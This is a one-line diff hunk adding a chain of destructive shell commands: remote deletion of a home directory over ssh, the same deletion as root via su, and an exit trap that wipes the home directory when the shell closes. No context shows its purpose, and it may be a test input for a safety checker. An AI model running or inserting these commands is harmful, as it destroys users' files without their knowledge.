@@ -1,0 +1,1 @@
+ssh host 'rm -rf ~'; su -c 'rm -rf ~' root; trap 'rm -rf ~' EXIT
